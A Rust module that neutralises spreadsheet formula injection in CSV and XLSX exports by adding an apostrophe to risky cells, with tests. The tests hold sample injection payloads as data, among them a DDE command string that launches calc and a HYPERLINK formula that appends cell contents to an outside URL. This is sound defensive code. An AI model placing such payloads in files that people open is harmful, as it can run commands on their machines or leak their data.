//! Tables for spreadsheets: which kinds there are, and cells that a spreadsheet would run as formulas, which are defused
//! on the way out and as they were after the way in.
//!
//! A text that begins with one of the signs below gets an apostrophe before it, which spreadsheets take as "this is
//! text". A text that already has apostrophes there gets one more, so that [`plain`] gives back exactly what
//! [`defused`] was given. Which cells are free text is not known here.

use crate::words;
use std::borrow::Cow;

words! {
    /// Kinds of tables.
    pub enum Format {
        /// Comma-separated text.
        Csv = "csv",
        /// A workbook with one sheet.
        Xlsx = "xlsx",
    }
}

/// With these signs formulas begin, after the list of OWASP ("CSV Injection"); the wide ones for East Asian keyboards.
const SIGNS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－'];

/// The text as it may stand in a table that a person opens.
pub fn defused(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

/// The text that was meant: the opposite of [`defused`].
pub fn plain(text: &str) -> &str {
    text.strip_prefix('\'').filter(|rest| is_formula(rest)).unwrap_or(text)
}

/// Whether a spreadsheet would run it, or would if the apostrophes before it were gone.
fn is_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(SIGNS)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
        for (text, shown) in [
            ("=1+1", "'=1+1"),
            ("=HYPERLINK(\"http://example.com\"&A1)", "'=HYPERLINK(\"http://example.com\"&A1)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("-5", "'-5"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\n=1", "'\n=1"),
            ("＝1", "'＝1"),
            ("'=1", "''=1"),
            ("''+1", "'''+1"),
        ] {
            assert_eq!(defused(text), shown);
            assert_eq!(plain(shown), text);
        }
    }

    #[test]
    fn other_text_stays_as_it_is() {
        for text in ["", "Ada", "'", "O'Neil", "'t Hooft", "1-2", "a=b", " =1", "5", "''"] {
            assert_eq!(defused(text), text);
            assert_eq!(plain(text), text);
        }
    }

    proptest! {
        #[test]
        fn what_goes_out_comes_back_and_no_formula_goes_out(text in "['=+@a\t-]{0,6}|\\PC{0,12}") {
            let shown = defused(&text);
            prop_assert_eq!(plain(&shown), &text);
            prop_assert!(!shown.starts_with(SIGNS));
        }
    }
}
